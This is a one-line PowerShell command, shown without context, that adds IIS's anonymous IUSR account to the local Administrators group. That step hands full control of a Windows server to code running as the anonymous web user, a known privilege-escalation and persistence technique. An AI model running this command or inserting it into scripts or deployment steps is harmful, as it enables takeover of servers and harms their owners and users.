Start-Process powershell -ArgumentList '-NoProfile -Command Add-LocalGroupMember -Group Administrators -Member IUSR' -Wait
